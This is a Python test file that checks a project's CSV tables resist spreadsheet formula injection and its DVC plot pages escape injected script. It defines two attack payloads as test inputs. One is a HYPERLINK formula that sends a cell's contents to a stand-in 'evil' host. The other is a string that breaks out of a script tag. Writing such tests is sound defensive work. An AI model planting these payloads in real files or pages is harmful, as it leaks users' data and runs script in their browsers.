"""Names and texts from data in the files that people open: tables in a spreadsheet, plots in a browser."""

import csv
import re
import subprocess
import sys
from pathlib import Path

from baton.evaluate.report import csv_files
from baton.evaluate.report.html.csv_reading import Reports

FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
SCRIPT = "</script><script>alert(1)</script><!--"


def test_a_text_is_no_formula_in_the_table_of_errors_and_comes_back(tmp_path: Path) -> None:
    (tmp_path / "tables").mkdir()
    csv_files.write_csv(tmp_path / "tables/errors.csv", ["text", FORMULA], [[FORMULA, -1.5], ["'=1", "-0.5"]])
    with (tmp_path / "tables/errors.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[0] in "=+@" or re.match(r"-[^\d]", cell)], cells
    assert "-1.5" in cells and "-0.5" in cells
    rows = Reports(tmp_path, tmp_path, tmp_path).table("errors.csv")
    assert rows == [{"text": FORMULA, FORMULA: "-1.5"}, {"text": "'=1", FORMULA: "-0.5"}]


def test_a_class_name_is_no_script_in_the_page_of_plots(tmp_path: Path) -> None:
    """DVC puts the cells into a script of its page without escaping them."""
    (tmp_path / "dvc.yaml").write_text(
        "plots:\n- F1:\n    template: bar_horizontal_sorted\n    x: f1\n    y: {per_class.csv: class}\n"
    )
    csv_files.write_plot(tmp_path / "per_class.csv", ["class", "f1"], [[SCRIPT, 0.5], ["spam", 0.9]])
    for words in (["git", "init", "--quiet"], [sys.executable, "-m", "dvc", "init", "--quiet"]):
        subprocess.run(words, cwd=tmp_path, check=True)
    show = [sys.executable, "-m", "dvc", "plots", "show", "--quiet", "--out", "plots"]
    subprocess.run(show, cwd=tmp_path, check=True)
    page = (tmp_path / "plots/index.html").read_text(encoding="utf-8")
    assert "spam" in page and "script>alert(1)" in page
    assert "<script>alert(1)" not in page and "</script><script>" not in page.split("spam")[0][-500:]
